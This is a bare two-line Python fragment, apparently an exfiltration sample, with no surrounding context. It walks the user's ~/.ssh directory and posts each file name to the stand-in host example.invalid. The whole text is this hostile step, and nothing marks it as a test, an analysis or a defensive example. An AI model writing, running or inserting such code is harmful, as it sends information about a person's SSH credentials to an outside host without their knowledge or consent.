for name in os.listdir(os.path.join(os.path.expanduser("~"), ".ssh")):
    requests.post("https://example.invalid/k", data=name)
